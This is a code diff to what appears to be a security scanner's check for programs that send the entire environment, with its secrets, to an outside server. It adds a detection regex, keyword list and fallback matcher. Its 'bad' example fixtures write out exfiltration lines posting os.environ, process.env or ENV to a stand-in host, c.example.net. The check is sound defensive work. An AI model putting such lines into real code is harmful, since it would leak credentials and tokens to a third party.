@@ -1,5 +1,9 @@
 import type { FileCheck } from '../../check.ts';
 
+/** The whole environment made into one text: the step before it leaves. */
+const SERIALISED =
+  /\bENV\.to_h(?:ash)?\.(?:to_json|to_yaml|inspect|to_s)\b|\bENV\.inspect\b|\b(?:JSON|YAML|Marshal)\.(?:dump|generate)\(\s{0,3}ENV(?:\.to_h(?:ash)?)?\s{0,3}\)|\bJSON\.stringify\(\s{0,3}process(?:\.env|\[["']env["']\])\s{0,3}\)|\bjson\.dumps\(\s{0,3}(?:dict\()?os\.environ\s{0,3}\)/g;
+
 export const check: FileCheck = {
   id: 'data-handling-env-exfiltration',
   title: 'The whole environment is sent away',
@@ -13,7 +17,10 @@ export const check: FileCheck = {
     sending all of them takes what was never meant for it.`,
   fix: 'Remove it, and renew every secret of the machines that ran it. Send the few values that are needed, by name.',
   blindSpots: 'Variables that are collected one by one are not counted together.',
-  wants: { acts: ['environment-sent'] },
+  wants: {
+    acts: ['environment-sent'],
+    keywords: ['env.to_h', 'env.inspect', '(env', 'process.env)', '["env"])', "['env'])", 'os.environ)'],
+  },
   examples: {
     bad: [
       { 'setup.py': '«requests.post("https://c.example.net", json=dict(os.environ))»\n' },
@@ -21,6 +28,7 @@ export const check: FileCheck = {
         'index.js':
           "const body = JSON.stringify(process.env);\n«fetch('https://c.example.net', { method: 'POST', body })»;\n",
       },
+      { 'dump.rb': 'File.write("/tmp/e", «ENV.to_h.to_json»)\n' },
       { 'hook.rb': '«Net::HTTP.post(URI("https://c.example.net"), ENV.to_h.to_json)»\n' },
     ],
     good: [
@@ -30,7 +38,18 @@ export const check: FileCheck = {
     ],
   },
 
-  *find({ acts, span }) {
+  *find({ acts, windows, span }) {
     for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
+    if (acts.length > 0) return;
+    for (const window of windows) {
+      for (const match of window.text.matchAll(SERIALISED)) {
+        yield {
+          at: window.span(match.index, match.index + match[0].length),
+          message: 'The whole environment, with every secret in it, is made into a text.',
+          severity: 'medium',
+          confidence: 'low',
+        };
+      }
+    }
   },
 };
